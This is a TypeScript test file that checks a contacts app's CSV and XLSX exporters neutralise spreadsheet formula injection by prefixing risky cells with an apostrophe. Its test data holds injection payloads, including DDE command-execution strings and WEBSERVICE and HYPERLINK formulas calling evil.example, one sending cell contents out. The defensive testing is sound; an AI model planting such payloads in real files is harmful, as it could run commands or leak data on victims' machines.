import * as XLSX from '@e965/xlsx';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parseDelimited } from '../../../src/main/core/contacts/import/parse-delimited.ts';
import { writeCsv } from '../../../src/main/core/contacts/export/csv-writer.ts';
import { messageResultsTable, type ExportTable } from '../../../src/main/core/contacts/export/table.ts';
import { writeXlsx } from '../../../src/main/core/contacts/export/xlsx-writer.ts';

/**
 * Formula injection: a cell that starts with =, +, -, @, tab or CR is run by Excel as a formula when
 * the file is opened (CSV) or the cell is edited (XLSX). Every such cell is written with a leading
 * apostrophe; only a cell that is wholly a number or phone number (^[+-]?[\d\s]+$) is left alone.
 */
const HOSTILE = [
  "-1+cmd|' /C calc'!A0",
  '+1+WEBSERVICE("http://evil.example/?"&A1)',
  '=HYPERLINK("http://evil.example","click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '-5+3',
  '+86 138 0013 8000=1',
  '-',
  '+',
];
const KEPT = ['+8613800138000', '-5', '+86 138 0013 8000', '13800138000', '42', 'plain text', '', ' -1', '1+1', '张三'];

/** The cells as they are in the files (CSV parsed by RFC 4180 rules, XLSX cell values). */
async function csvCells(table: ExportTable): Promise<string[]> {
  const chunks: Buffer[] = [];
  const out = new PassThrough();
  out.on('data', (c: Buffer) => chunks.push(c));
  await writeCsv(table, out, { bom: false });
  const { grid } = parseDelimited(Buffer.concat(chunks).toString('utf8'), { delimiter: ',', maxRows: 100 });
  return grid.rows.slice(1).map((r) => r?.[0] ?? '');
}

async function xlsxCells(table: ExportTable): Promise<string[]> {
  const wb = XLSX.read(await writeXlsx(table), { type: 'buffer' });
  const ws = wb.Sheets[wb.SheetNames[0]!]!;
  return Array.from({ length: HOSTILE.length + KEPT.length }, (_, i) => String((ws[`A${i + 2}`] as XLSX.CellObject | undefined)?.v ?? ''));
}

const table = (): ExportTable => ({ headers: ['value'], rows: [...HOSTILE, ...KEPT].map((v) => [v]) });

describe('exports neutralise formula cells', () => {
  for (const [format, read] of [['CSV', csvCells], ['XLSX', xlsxCells]] as const) {
    it(`${format}: every hostile cell gets a leading apostrophe, numbers and phone numbers stay as they are`, async () => {
      const cells = await read(table());
      expect(cells.slice(0, HOSTILE.length)).toEqual(HOSTILE.map((v) => `'${v}`));
      expect(cells.slice(HOSTILE.length)).toEqual(KEPT);
    });
  }

  it('covers the headers and every column of a real export (message results)', async () => {
    const rows = [{ number: '+8613800138000', status: 'failed', error: '-1+cmd|x!A0', text: '=1+1', account: '@acct' }];
    const t = messageResultsTable(rows);
    const wb = XLSX.read(await writeXlsx({ headers: ['=h', ...t.headers.slice(1)], rows: t.rows }), { type: 'buffer' });
    const aoa = XLSX.utils.sheet_to_json<string[]>(wb.Sheets[wb.SheetNames[0]!]!, { header: 1, raw: false, defval: '' });
    expect(aoa[0]?.[0]).toBe("'=h");
    expect(aoa[1]).toEqual(['+8613800138000', 'failed', '', "'@acct", '', "'-1+cmd|x!A0", '', '', "'=1+1"]);
  });
});
